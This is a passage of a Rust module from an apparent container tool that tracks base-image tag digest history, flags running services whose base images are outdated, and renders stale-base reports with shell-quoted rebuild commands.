//! Base-image freshness: the digest history of each base tag, how far behind each running
//! service is, the daily stale-base report in every format, and the rebuild diff that proves a
//! rebuild changed only its base.
//!
//! History comes from two kinds of knowledge in the ledger: `BaseSeen` facts (a registry
//! answered "this tag is this digest" at a time) and build records (a build pulled this digest
//! of this tag at a time). Both count, so the history keeps growing from CI builds when no
//! registry is reachable. Nothing here talks to a registry: the CLI resolves tags and hands
//! the answers to [`record_refresh`], which only decides what to write.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use lineage_model::{
    BaseSeen, BuildRecord, Digest, EnvName, Identity, ImageRef, Record, Repository, ServiceName,
    Tag, Timestamp,
};
use lineage_store::Store;
use serde::Serialize;

use crate::{Config, Error};

/// A base image tag whose digest moves over time: `name:tag`.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct BaseTag {
    pub name: Repository,
    pub tag: Tag,
}

impl BaseTag {
    /// Parses `NAME:TAG`. A digest is refused: a digest never moves, so it has no history.
    pub fn parse(input: &str) -> Result<BaseTag, Error> {
        let image = ImageRef::parse(input).map_err(|e| e.in_field("base tag"))?;
        let hint = format!("name a base tag, e.g. `{}:3.20`", image.repository);
        if image.digest.is_some() {
            return Err(Error::Invalid(
                format!("base tag `{input}` pins a digest; history is kept per tag"),
                hint,
            ));
        }
        match image.tag {
            Some(tag) => Ok(BaseTag {
                name: image.repository,
                tag,
            }),
            None => Err(Error::Invalid(
                format!("base tag `{input}` has no tag"),
                hint,
            )),
        }
    }

    /// The reference a registry resolves.
    pub fn image_ref(&self) -> ImageRef {
        ImageRef {
            repository: self.name.clone(),
            tag: Some(self.tag.clone()),
            digest: None,
        }
    }
}

impl std::fmt::Display for BaseTag {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}:{}", self.name, self.tag)
    }
}

/// One digest a base tag has pointed at.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct HistoryEntry {
    pub digest: String,
    /// The earliest time a registry or a build showed this digest under the tag.
    pub first_seen: Timestamp,
    /// The latest such time.
    pub last_seen: Timestamp,
    /// The image config's `created` time, when a registry was asked.
    pub created: Option<Timestamp>,
    /// Where it was seen: `registry` and/or `build`.
    pub seen_by: Vec<&'static str>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct HistoryReport {
    pub schema: u32,
    pub base: String,
    /// When a registry last answered for this tag; `None` when it never did.
    pub last_refresh: Option<Timestamp>,
    /// Newest first.
    pub digests: Vec<HistoryEntry>,
}

/// What the ledger knows about base tags: per tag, when builds first and last used each
/// digest (the store keeps that per tag, so nothing here reads every build) and every
/// registry answer.
#[derive(Debug, Default)]
pub struct Knowledge {
    /// Per tag, every observation: (digest, time, created, from the registry?).
    observations: BTreeMap<BaseTag, Vec<Observation>>,
}

#[derive(Debug, Clone)]
struct Observation {
    digest: Digest,
    at: Timestamp,
    created: Option<Timestamp>,
    registry: bool,
}

impl Knowledge {
    /// Every tag a recorded build used or a registry was asked about, sorted: what
    /// `lineage base refresh` asks registries about.
    pub fn known_tags(store: &dyn Store) -> Result<Vec<BaseTag>, Error> {
        let mut tags: BTreeSet<BaseTag> = store
            .base_tags()?
            .into_iter()
            .map(|(name, tag)| BaseTag { name, tag })
            .collect();
        for entry in store.facts("base", None)? {
            if let Record::Base(BaseSeen {
                name,
                tag: Some(tag),
                ..
            }) = entry.record
            {
                tags.insert(BaseTag { name, tag });
            }
        }
        Ok(tags.into_iter().collect())
    }

    /// Only `tags`: what one report or one gate decision needs, in indexed reads.
    pub fn load_tags<'a>(
        store: &dyn Store,
        tags: impl IntoIterator<Item = &'a BaseTag>,
    ) -> Result<Knowledge, Error> {
        let mut knowledge = Knowledge::default();
        let mut names = BTreeSet::new();
        for tag in tags {
            if names.insert(tag.name.clone()) {
                for entry in store.facts("base", Some(&tag.name.to_string()))? {
                    knowledge.add_seen(entry.record);
                }
            }
            knowledge.add_uses(store, tag.clone())?;
        }
        Ok(knowledge)
    }

    fn add_seen(&mut self, record: Record) {
        let Record::Base(seen) = record else { return };
        let Some(tag) = seen.tag else { return };
        self.observations
            .entry(BaseTag {
                name: seen.name,
                tag,
            })
            .or_default()
            .push(Observation {
                digest: seen.digest,
                at: seen.seen_at,
                created: seen.created,
                registry: true,
            });
    }

    /// A build's use of a digest counts as seeing it under the tag then
    /// ([`BuildRecord::base_seen_at`]); the first and last use bound them all.
    fn add_uses(&mut self, store: &dyn Store, tag: BaseTag) -> Result<(), Error> {
        let uses = store.base_tag_uses(&tag.name, &tag.tag)?;
        let list = self.observations.entry(tag).or_default();
        for used in uses {
            for at in [used.first_used, used.last_used] {
                list.push(Observation {
                    digest: used.digest.clone(),
                    at,
                    created: None,
                    registry: false,
                });
            }
        }
        Ok(())
    }

    /// The tag's digests, newest (latest first seen) first.
    pub fn history(&self, tag: &BaseTag) -> Vec<HistoryEntry> {
        let mut by_digest: BTreeMap<&Digest, HistoryEntry> = BTreeMap::new();
        for o in self.observations.get(tag).map(Vec::as_slice).unwrap_or(&[]) {
            let e = by_digest.entry(&o.digest).or_insert_with(|| HistoryEntry {
                digest: o.digest.to_string(),
                first_seen: o.at,
                last_seen: o.at,
                created: None,
                seen_by: Vec::new(),
            });
            e.first_seen = e.first_seen.min(o.at);
            e.last_seen = e.last_seen.max(o.at);
            e.created = e.created.or(o.created);
            let source = if o.registry { "registry" } else { "build" };
            if !e.seen_by.contains(&source) {
                e.seen_by.push(source);
                e.seen_by.sort_unstable();
            }
        }
        let mut list: Vec<HistoryEntry> = by_digest.into_values().collect();
        list.sort_by(|a, b| {
            b.first_seen
                .cmp(&a.first_seen)
                .then_with(|| a.digest.cmp(&b.digest))
        });
        list
    }

    /// How fresh `digest` of `tag` is. A newer digest seen by a registry or used by any
    /// build makes it behind; with none, it is current only if a registry was asked, since
    /// builds alone cannot say the tag has not moved.
    pub fn assess(&self, tag: &BaseTag, digest: &Digest) -> Freshness {
        let history = self.history(tag);
        let running = digest.to_string();
        let Some(mine) = history.iter().find(|e| e.digest == running) else {
            // Cannot happen for a recorded build (its bases are part of the history), but a
            // wrong answer is worse than none.
            return Freshness::NotAssessed {
                reason: "the base digest is not in its tag's history".into(),
            };
        };
        let newer: Vec<&HistoryEntry> = history
            .iter()
            .filter(|e| e.first_seen > mine.first_seen)
            .collect();
        match newer.last() {
            Some(oldest_newer) => Freshness::Behind {
                base: tag.to_string(),
                digest: running,
                newest: history[0].digest.clone(),
                since: oldest_newer.first_seen,
                digests_behind: newer.len(),
                source: oldest_newer.seen_by.clone(),
            },
            None => match self.last_refresh(tag) {
                Some(checked_at) => Freshness::Current {
                    base: tag.to_string(),
                    checked_at,
                },
                None => Freshness::NotAssessed {
                    reason: NEVER_REFRESHED.into(),
                },
            },
        }
    }

    /// When a registry last answered for the tag.
    pub fn last_refresh(&self, tag: &BaseTag) -> Option<Timestamp> {
        self.observations
            .get(tag)?
            .iter()
            .filter(|o| o.registry)
            .map(|o| o.at)
            .max()
    }

    /// Whether a registry has ever reported `digest` under `tag`.
    fn registry_knows(&self, tag: &BaseTag, digest: &Digest) -> bool {
        self.observations
            .get(tag)
            .is_some_and(|list| list.iter().any(|o| o.registry && &o.digest == digest))
    }
}

const NEVER_REFRESHED: &str =
    "its base tag was never checked in its registry (run `lineage base refresh`)";

/// How fresh the final-stage base of one build is: the one answer behind `report stale`,
/// the deploy gate's stale-base rule (D012) and the dashboard.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum Freshness {
    /// A newer digest of the tag is known.
    Behind {
        /// `name:tag`.
        base: String,
        /// The digest the build used.
        digest: String,
        /// The newest digest known.
        newest: String,
        /// When the first newer digest was seen.
        since: Timestamp,
        digests_behind: usize,
        /// Who saw that first newer digest: `build` (a build used it), `registry`, or both.
        source: Vec<&'static str>,
    },
    /// The newest digest known, and a registry confirmed the tag at `checked_at`.
    Current { base: String, checked_at: Timestamp },
    /// Nothing can be said, and why.
    NotAssessed { reason: String },
}

impl Freshness {
    /// `(name:tag@digest, since)` when behind.
    pub fn behind(&self) -> Option<(String, Timestamp)> {
        match self {
            Freshness::Behind {
                base,
                digest,
                since,
                ..
            } => Some((format!("{base}@{digest}"), *since)),
            _ => None,
        }
    }
}

/// The final-stage base of `build` as a tag and digest, or why it has no history.
pub fn final_base_tag(build: &BuildRecord) -> Result<(BaseTag, &Digest), &'static str> {
    let base = build
        .final_base()
        .ok_or("the build records no base image")?;
    match (&base.tag, &base.digest) {
        (Some(tag), Some(digest)) => Ok((
            BaseTag {
                name: base.name.clone(),
                tag: tag.clone(),
            },
            digest,
        )),
        (None, _) => Err("the final-stage base has no tag, so it has no history"),
        (Some(_), None) => Err("the final-stage base has no digest"),
    }
}

/// How fresh `build`'s final-stage base is, reading only that tag's history.
pub fn assess_build(store: &dyn Store, build: &BuildRecord) -> Result<Freshness, Error> {
    Ok(match final_base_tag(build) {
        Ok((tag, digest)) => Knowledge::load_tags(store, [&tag])?.assess(&tag, digest),
        Err(reason) => Freshness::NotAssessed {
            reason: reason.into(),
        },
    })
}

/// `lineage base history NAME:TAG`.
pub fn history(store: &dyn Store, tag: &BaseTag) -> Result<HistoryReport, Error> {
    let knowledge = Knowledge::load_tags(store, [tag])?;
    Ok(HistoryReport {
        schema: 1,
        base: tag.to_string(),
        last_refresh: knowledge.last_refresh(tag),
        digests: knowledge.history(tag),
    })
}

// ---------------------------------------------------------------------------------------------
// Refresh

/// What a registry said a tag resolves to now.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Resolved {
    pub digest: Digest,
    /// Layer digests, bottom first.
    pub layers: Vec<Digest>,
    pub created: Option<Timestamp>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct RefreshedTag {
    pub base: String,
    /// `new` (a digest not seen under this tag before), `unchanged`, or `failed`.
    pub status: &'static str,
    pub digest: Option<String>,
    /// The newest digest known before this refresh.
    pub previous: Option<String>,
    pub created: Option<Timestamp>,
    /// Why the registry could not answer (`failed` only).
    pub error: Option<String>,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct RefreshReport {
    pub schema: u32,
    pub at: Timestamp,
    pub tags: Vec<RefreshedTag>,
    /// How many tags could not be resolved.
    pub failed: usize,
}

/// Records what the registry answered for each tag and reports it per tag.
///
/// Every successful answer is written as a `BaseSeen` observation, not only new digests:
/// without one per refresh the report could not say how fresh its data is, and first-seen
/// times stay exact because history takes the earliest observation of each digest. A failed
/// tag writes nothing; the others are still recorded.
pub fn record_refresh(
    store: &mut dyn Store,
    answers: Vec<(BaseTag, Result<Resolved, String>)>,
    now: Timestamp,
    by: Option<&Identity>,
) -> Result<RefreshReport, Error> {
    let knowledge = Knowledge::load_tags(store, answers.iter().map(|(tag, _)| tag))?;
    let mut facts = Vec::new();
    let mut tags = Vec::new();
    for (tag, answer) in answers {
        let previous = knowledge.history(&tag).first().map(|e| e.digest.clone());
        match answer {
            Ok(resolved) => {
                let known = knowledge.registry_knows(&tag, &resolved.digest)
                    || previous.as_deref() == Some(&resolved.digest.to_string());
                tags.push(RefreshedTag {
                    base: tag.to_string(),
                    status: if known { "unchanged" } else { "new" },
                    digest: Some(resolved.digest.to_string()),
                    previous,
                    created: resolved.created,
                    error: None,
                });
                facts.push(Record::Base(BaseSeen {
                    name: tag.name,
                    tag: Some(tag.tag),
                    digest: resolved.digest,
                    layers: resolved.layers,
                    created: resolved.created,
                    seen_at: now,
                }));
            }
            Err(error) => tags.push(RefreshedTag {
                base: tag.to_string(),
                status: "failed",
                digest: None,
                previous,
                created: None,
                error: Some(error),
            }),
        }
    }
    if !facts.is_empty() {
        store.record_facts(&facts, now, by)?;
    }
    Ok(RefreshReport {
        schema: 1,
        at: now,
        failed: tags.iter().filter(|t| t.status == "failed").count(),
        tags,
    })
}

// ---------------------------------------------------------------------------------------------
// Staleness

/// Filters and thresholds of `lineage report stale`, already checked.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StaleOptions {
    pub env: Option<EnvName>,
    /// Leave out rows fewer than this many days behind.
    pub min_days: u32,
    /// Count rows more than this many days behind (the CLI exits 1 when any).
    pub fail_after: Option<u32>,
    /// With `fail_after`: do not fail on running images whose base could not be assessed.
    pub allow_unassessed: bool,
    /// Only placements a runtime source observes running now.
    pub observed_only: bool,
}

/// One service in one environment running on an outdated base.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct StaleRow {
    pub service: String,
    pub env: String,
    /// The running image digest.
    pub digest: String,
    pub image: String,
    /// The base tag, `name:tag`.
    pub base: String,
    /// `final`: the base under the running image; `build`: a build stage's, not in the image.
    pub stage: Stage,
    pub running_base_digest: String,
    pub newest_base_digest: String,
    /// Whole days since the first digest newer than the running one was seen.
    pub days_behind: i64,
    /// How many digests of the tag are newer than the running one.
    pub digests_behind: usize,
    /// When the first newer digest was seen.
    pub behind_since: Timestamp,
    /// Who saw that first newer digest: `build` (a recorded build used it), `registry`
    /// (`lineage base refresh`), or both.
    pub source: Vec<&'static str>,
    pub owner: Option<String>,
    pub backup_owner: Option<String>,
    pub commit: Option<String>,
    /// Rebuilds the same commit on the newest base (see [`rebuild_command`]).
    pub rebuild: Option<String>,
    /// The `FROM` line that moves the Dockerfile to the newest base: `--pull` alone keeps a
    /// base pinned by digest where it is.
    pub from_line: String,
    /// A recorded build of the same commit on the newest base that does not run in this
    /// environment yet: deploy it instead of rebuilding.
    pub rebuilt: Option<String>,
    /// The CI run that built the running digest, to re-run it instead.
    pub ci_url: Option<String>,
    /// Whether a runtime source saw the digest running there; absent without observations.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub observed: Option<crate::observe::ObservedState>,
    /// Set when the running digest was retired: it must not run at all, stale or not.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub retired: Option<crate::lifecycle::RetiredMark>,
}

/// Which stage of a build a base was used in.
#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq, PartialOrd, Ord)]
#[serde(rename_all = "snake_case")]
pub enum Stage {
    Final,
    Build,
}

/// A running digest whose staleness cannot be computed, and why.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct NotAssessed {
    pub service: String,
    pub env: String,
    pub digest: String,
    pub reason: String,
}

/// How fresh the report's knowledge of one base tag is.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct BaseFreshness {
    pub base: String,
    /// When a registry last answered for the tag; `None`: history from builds only.
    pub last_refresh: Option<Timestamp>,
    pub newest_digest: String,
    pub newest_first_seen: Timestamp,
    pub digests_known: usize,
}

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct StaleReport {
    pub schema: u32,
    pub generated_at: Timestamp,
    pub env: Option<String>,
    pub min_days: u32,
    pub fail_after: Option<u32>,
    /// Rows more than `fail_after` days behind (0 without `fail_after`).
    pub over_limit: usize,
    /// Whether the report fails its `fail_after` limit: a row over it, or (unless allowed) a
    /// running image that could not be assessed — "not checked" is never "clean".
    pub fails: bool,
    /// Rows left out because they are fewer than `min_days` behind.
    pub below_min_days: usize,
    /// Production first, then most days behind.
    pub rows: Vec<StaleRow>,
    /// Service × environment pairs on the newest known base.
    pub up_to_date: usize,
    pub not_assessed: Vec<NotAssessed>,
    /// Every base tag the assessed services run on.
    pub bases: Vec<BaseFreshness>,
}

/// The command that rebuilds the same commit on the newest base.
///
/// `docker build --pull` re-resolves every `FROM` tag, so the build gets the newest base
/// while the checkout pins the application source; a changed parent invalidates the layer
/// cache above it, so no `--no-cache` is needed. `lineage build diff OLD NEW --expect
/// base-only` then proves nothing else changed. `None` when the commit is unknown.
///
/// Every value from the record is shell-quoted: the command is meant to be copied into a
/// shell, and a Dockerfile path is whatever the pipeline reported.
pub fn rebuild_command(build: &BuildRecord) -> Option<String> {
    let commit = build.commit.as_ref()?;
    let dockerfile = build
        .dockerfile
        .as_ref()
        .map_or("Dockerfile", |d| d.path.as_str());
    Some(format!(
        "git checkout {} && docker build --pull -f {} -t {} .",
        shell_quote(commit.as_str()),
        shell_quote(dockerfile),
        shell_quote(&build.image.to_string())
    ))
}

/// `value` as one POSIX shell word: unchanged when it holds only safe characters, else in
/// single quotes (with `'` written as `'\''`), so nothing in it is expanded or run.
pub fn shell_quote(value: &str) -> String {
    let safe = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./-_".contains(c));
    if safe {
        value.to_string()
    } else {
        format!("'{}'", value.replace('\'', "'\\''"))
    }
}

/// A recorded build of `build`'s service and commit built on `newest` of `base`, that does
/// not run in `env`: the fix is already built, it only needs deploying.
fn rebuilt_on(
    store: &dyn Store,
    build: &BuildRecord,
    base: &BaseTag,
    newest: &str,
    env: &EnvName,
) -> Result<Option<String>, Error> {
    let Some(commit) = &build.commit else {
        return Ok(None);
    };
    // The builds of the same commit, from the commit lookup; without a recorded repository,
    // the service's recent builds.
    let candidates = match &build.source_repo {
        Some(repo) => store.builds_from(&build.service, repo, commit)?,
        None => store.builds_of_service(&build.service, 50)?,
    };
    for candidate in candidates {
        let on_newest = candidate.bases.iter().any(|b| {
            b.name == base.name && b.digest.as_ref().is_some_and(|d| d.to_string() == newest)
        });
        if on_newest && candidate.commit.as_ref() == Some(commit) {
            let here = store
                .deploys_of_digest(&candidate.digest)?
                .iter()
                .any(|d| d.env == *env);
            if !here {
                return Ok(Some(candidate.digest.to_string()));
            }
        }
    }
    Ok(None)
}

/// Every tagged, pinned base of `build` with its stage: the final stage's first.
fn assessable_bases(build: &BuildRecord) -> Vec<(BaseTag, &Digest, Stage)> {
    let mut out = Vec::new();
    if let Ok((tag, digest)) = final_base_tag(build) {
        out.push((tag, digest, Stage::Final));
    }
    let final_base = build.final_base();
    for base in &build.bases {
        if final_base.is_some_and(|f| std::ptr::eq(f, base)) {
            continue;
        }
        if let (Some(tag), Some(digest)) = (&base.tag, &base.digest) {
            let tag = BaseTag {
                name: base.name.clone(),
                tag: tag.clone(),
            };
            // A build stage on the same base as the final one is covered by the final row.
            if !out.iter().any(|(t, d, _)| *t == tag && *d == digest) {
                out.push((tag, digest, Stage::Build));
            }
        }
    }
    out
}

/// `lineage report stale`: one row per (service, environment) whose running digest was built
/// on an older digest of its final-stage base tag than the newest one known, and, below them,
/// one per build-stage base that is behind (it is not in the image, so it never fails the
/// report, but a rebuild should move it too).
pub fn stale(
    store: &dyn Store,
    config: &Config,
    options: &StaleOptions,
    now: Timestamp,
) -> Result<StaleReport, Error> {
    let mut rows = Vec::new();
    let mut not_assessed = Vec::new();
    let mut up_to_date = 0;
    let mut over_limit = 0;
    let mut below_min_days = 0;
    let truth = crate::observe::Truth::load(store, options.env.as_ref(), None, Some(now))?;
    let mut placements = Vec::new();
    for running in store.running(options.env.as_ref(), None)? {
        let observed = truth
            .as_ref()
            .map(|t| t.state(&running.deploy.env, &running.deploy.digest));
        // A placement nobody sees running pages nobody when only the truth is asked for.
        if options.observed_only && !observed.as_ref().is_some_and(|o| o.is_observed()) {
            continue;
        }
        placements.push((running, observed));
    }
    // Only the tags the running builds use are read, each in one indexed lookup.
    let used: BTreeSet<BaseTag> = placements
        .iter()
        .filter_map(|(r, _)| r.build.as_ref())
        .flat_map(|b| assessable_bases(b).into_iter().map(|(tag, _, _)| tag))
        .collect();
    let knowledge = Knowledge::load_tags(store, &used)?;
    // Owners and retirements for every placement in two reads.
    let mut names: Vec<ServiceName> = placements
        .iter()
        .map(|(r, _)| r.deploy.service.clone())
        .collect();
    names.sort();
    names.dedup();
    let services: BTreeMap<ServiceName, lineage_model::Service> = store
        .services_named(&names)?
        .into_iter()
        .map(|s| (s.name.clone(), s))
        .collect();
    let digests: Vec<Digest> = placements
        .iter()
        .map(|(r, _)| r.deploy.digest.clone())
        .collect();
    let retired = crate::lifecycle::retirements(store, &digests)?;
    for (running, observed) in placements {
        let deploy = &running.deploy;
        let skip = |reason: &str| NotAssessed {
            service: deploy.service.to_string(),
            env: deploy.env.to_string(),
            digest: deploy.digest.to_string(),
            reason: reason.to_string(),
        };
        let Some(build) = &running.build else {
            not_assessed.push(skip("no build record for the running digest"));
            continue;
        };
        if let Err(reason) = final_base_tag(build) {
            not_assessed.push(skip(reason));
        }
        for (base_tag, base_digest, stage) in assessable_bases(build) {
            let (newest, since, digests_behind, source) =
                match knowledge.assess(&base_tag, base_digest) {
                    Freshness::Behind {
                        newest,
                        since,
                        digests_behind,
                        source,
                        ..
                    } => (newest, since, digests_behind, source),
                    // Build stages only add rows when behind; the running image is the final's.
                    _ if stage == Stage::Build => continue,
                    Freshness::Current { .. } => {
                        up_to_date += 1;
                        continue;
                    }
                    Freshness::NotAssessed { reason } => {
                        not_assessed.push(skip(&reason));
                        continue;
                    }
                };
            let days_behind = since.days_until(now).max(0);
            if stage == Stage::Final
                && options
                    .fail_after
                    .is_some_and(|n| days_behind > i64::from(n))
            {
                over_limit += 1;
            }
            if days_behind < i64::from(options.min_days) {
                below_min_days += 1;
                continue;
            }
            let service = services.get(&deploy.service);
            rows.push(StaleRow {
                service: deploy.service.to_string(),
                env: deploy.env.to_string(),
                digest: deploy.digest.to_string(),
                image: deploy.image.to_string(),
                base: base_tag.to_string(),
                stage,
                running_base_digest: base_digest.to_string(),
                newest_base_digest: newest.clone(),
                days_behind,
                digests_behind,
                behind_since: since,
                source,
                owner: service
                    .and_then(|s| s.owner.as_ref())
                    .map(|i| i.to_string()),
                backup_owner: service
                    .and_then(|s| s.backup_owner.as_ref())
                    .map(|i| i.to_string()),
                commit: build.commit.as_ref().map(|c| c.to_string()),
                rebuild: rebuild_command(build),
                from_line: format!("FROM {base_tag}@{newest}"),
                rebuilt: rebuilt_on(store, build, &base_tag, &newest, &deploy.env)?,
                ci_url: build.ci.as_ref().and_then(|c| c.url.clone()),
                observed: observed.clone(),
                retired: retired
                    .get(&deploy.digest)
                    .map(crate::lifecycle::RetiredMark::of),
            });
        }
    }
    let rank = |env: &str| {
        EnvName::parse(env)
            .map(|e| config.env_rank(&e))
            .unwrap_or(usize::MAX)
    };
    rows.sort_by(|a, b| {
        a.stage
            .cmp(&b.stage)
            .then(rank(&a.env).cmp(&rank(&b.env)))
            .then(b.days_behind.cmp(&a.days_behind))
            .then_with(|| a.service.cmp(&b.service))
            .then_with(|| a.env.cmp(&b.env))
    });
    not_assessed.sort_by(|a, b| (&a.service, &a.env).cmp(&(&b.service, &b.env)));
    let bases = used
        .iter()
        .filter_map(|tag| {
            let history = knowledge.history(tag);
            let newest = history.first()?;
            Some(BaseFreshness {
                base: tag.to_string(),
                last_refresh: knowledge.last_refresh(tag),
                newest_digest: newest.digest.clone(),
                newest_first_seen: newest.first_seen,
                digests_known: history.len(),
            })
        })
        .collect();
    Ok(StaleReport {
        schema: 1,
        generated_at: now,
        env: options.env.as_ref().map(|e| e.to_string()),
        min_days: options.min_days,
        fail_after: options.fail_after,
        over_limit,
        fails: options.fail_after.is_some()
            && (over_limit > 0 || (!not_assessed.is_empty() && !options.allow_unassessed)),
        below_min_days,
        rows,
        up_to_date,
        not_assessed,
        bases,
    })
}

// ---------------------------------------------------------------------------------------------
// Renderers. Screens and chat show 12 hex digits of a digest, enough to tell them apart; JSON
// carries the full digest.

fn short(digest: &str) -> String {
    match digest.split_once(':') {
        Some((algo, hex)) if hex.len() > 12 => format!("{algo}:{}", &hex[..12]),
        _ => digest.to_string(),
    }
}

fn plural(n: i64, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

fn headline(r: &StaleReport) -> String {
    let scope = r.env.as_ref().map_or(String::new(), |e| format!(" in {e}"));
    if r.rows.is_empty() && r.below_min_days > 0 {
        format!(
            "No base image more than {} days behind{scope} (as of {}); {} fewer days behind left out.",
            r.min_days,
            r.generated_at,
            plural(r.below_min_days as i64, "image", "images")
        )
    } else if r.rows.is_empty() && r.up_to_date == 0 && !r.not_assessed.is_empty() {
        format!(
            "Nothing could be assessed{scope} (as of {}): see \"not assessed\" below.",
            r.generated_at
        )
    } else if r.rows.is_empty() {
        format!("No stale base images{scope} (as of {}).", r.generated_at)
    } else {
        let running = r
            .rows
            .iter()
            .filter(|row| row.stage == Stage::Final)
            .count();
        let stages = r.rows.len() - running;
        let stages = if stages == 0 {
            String::new()
        } else {
            format!(
                "; {} behind in build stages only",
                plural(stages as i64, "base", "bases")
            )
        };
        format!(
            "{} on an outdated base image{scope}{stages} (as of {}).",
            plural(running as i64, "service runs", "services run"),
            r.generated_at
        )
    }
}

/// The row's base tag, marked when only a build stage used it.
fn base_label(row: &StaleRow) -> String {
    match row.stage {
        Stage::Final => row.base.clone(),
        Stage::Build => format!("{} (build stage)", row.base),
    }
}

/// Who saw the first newer digest, in words.
fn source_phrase(row: &StaleRow) -> String {
    let who: Vec<&str> = row
        .source
        .iter()
        .map(|s| match *s {
            "build" => "a recorded build",
            "registry" => "the registry",
            other => other,
        })
        .collect();
    format!("newer digest seen by {}", who.join(" and "))
}

/// The subject line of the emailed report: the headline, tagged so filters can find it.
pub fn email_subject(r: &StaleReport) -> String {
    format!("[lineage] {}", headline(r).trim_end_matches('.'))
}

fn owners_line(row: &StaleRow) -> String {
    let owner = row.owner.as_deref().unwrap_or("(no owner)");
    match &row.backup_owner {
        Some(b) => format!("{owner}, backup {b}"),
        None => owner.to_string(),
    }
}

fn freshness_line(b: &BaseFreshness) -> String {
    let refreshed = match b.last_refresh {
        Some(t) => format!("registry last checked {t}"),
        None => "never checked in a registry; history from builds only".to_string(),
    };
    format!(
        "{}: {refreshed}; {} known, newest {} first seen {}",
        b.base,
        plural(b.digests_known as i64, "digest", "digests"),
        short(&b.newest_digest),
        b.newest_first_seen
    )
}

fn rebuild_line(row: &StaleRow) -> String {
    match (&row.rebuild, &row.ci_url) {
        (Some(cmd), _) => cmd.clone(),
        (None, Some(url)) => format!("re-run CI with a fresh pull: {url}"),
        (None, None) => "commit unknown: rebuild from the source of the running digest".into(),
    }
}

fn footer_counts(r: &StaleReport) -> String {
    let mut s = format!("Up to date: {}.", r.up_to_date);
    if !r.not_assessed.is_empty() {
        let _ = write!(s, " Not assessed: {}.", r.not_assessed.len());
    }
    if let Some(n) = r.fail_after {
        let _ = write!(s, " More than {n} days behind: {}.", r.over_limit);
    }
    s
}

/// Plain text that reads well in a terminal and pasted into chat or email.
pub fn render_text(r: &StaleReport) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{}", headline(r));
    for row in &r.rows {
        let _ = writeln!(out);
        let _ = writeln!(
            out,
            "{} in {}: {} behind ({} newer than the running one)",
            row.service,
            row.env,
            plural(row.days_behind, "day", "days"),
            plural(row.digests_behind as i64, "base digest", "base digests")
        );
        let _ = writeln!(out, "  running   {}@{}", row.image, short(&row.digest));
        let _ = writeln!(
            out,
            "  base      {} {} -> {} ({})",
            base_label(row),
            short(&row.running_base_digest),
            short(&row.newest_base_digest),
            source_phrase(row)
        );
        let _ = writeln!(out, "  owner     {}", owners_line(row));
        match &row.rebuilt {
            Some(d) => {
                let _ = writeln!(
                    out,
                    "  ready     {} is built on the new base: deploy it",
                    short(d)
                );
            }
            None => {
                let _ = writeln!(out, "  pin       {}", row.from_line);
                let _ = writeln!(out, "  rebuild   {}", rebuild_line(row));
            }
        }
        if let Some(o) = &row.observed {
            let _ = writeln!(out, "  runtime   {}", o.phrase());
        }
        if let Some(x) = &row.retired {
            let _ = writeln!(out, "  RETIRED   {}", retired_line(x));
        }
    }
    let _ = writeln!(out);
    let _ = writeln!(out, "{}", footer_counts(r));
    for n in &r.not_assessed {
        let _ = writeln!(
            out,
            "  not assessed: {} in {}: {}",
            n.service, n.env, n.reason
        );
    }
    if !r.bases.is_empty() {
        let _ = writeln!(out, "Data freshness:");
        for b in &r.bases {
            let _ = writeln!(out, "  {}", freshness_line(b));
        }
    }
    out
}

/// A retired digest still running: it must not run at all, stale or not.
fn retired_line(x: &crate::lifecycle::RetiredMark) -> String {
    format!(
        "retired by {} at {} ({}), yet it runs here",
        x.by,
        x.at,
        lineage_model::inert(&x.reason)
    )
}

fn md_cell(s: &str) -> String {
    s.replace('|', "\\|").replace('\n', " ")
}

/// A Markdown document: a table of rows, then the rebuild commands and data freshness.
pub fn render_markdown(r: &StaleReport) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "# Stale base images\n");
    let _ = writeln!(out, "{}\n", headline(r));
    if !r.rows.is_empty() {
        let _ = writeln!(
            out,
            "| service | environment | running digest | base | running base | newest base | days behind | digests behind | owner | backup owner |"
        );
        let _ = writeln!(out, "|---|---|---|---|---|---|---:|---:|---|---|");
        for row in &r.rows {
            let _ = writeln!(
                out,
                "| {} | {} | `{}` | `{}` | `{}` | `{}` | {} | {} | {} | {} |",
                md_cell(&row.service),
                md_cell(&row.env),
                short(&row.digest),
                md_cell(&base_label(row)),
                short(&row.running_base_digest),
                short(&row.newest_base_digest),
                row.days_behind,
                row.digests_behind,
                md_cell(row.owner.as_deref().unwrap_or("—")),
                md_cell(row.backup_owner.as_deref().unwrap_or("—")),
            );
        }
        for row in r.rows.iter().filter(|row| row.retired.is_some()) {
            if let Some(x) = &row.retired {
                let _ = writeln!(
                    out,
                    "\n**RETIRED** {} in {}: {}",
                    md_cell(&row.service),
                    md_cell(&row.env),
                    md_cell(&retired_line(x))
                );
            }
        }
        let _ = writeln!(out, "\n## Rebuild on the new base\n");
        for row in &r.rows {
            let _ = writeln!(
                out,
                "- **{}** ({}): `{}`",
                md_cell(&row.service),
                md_cell(&row.env),
                md_cell(&rebuild_line(row))
            );
        }
        let _ = writeln!(out);
    }
    let _ = writeln!(out, "{}\n", footer_counts(r));
    if !r.not_assessed.is_empty() {
        let _ = writeln!(out, "## Not assessed\n");
        for n in &r.not_assessed {
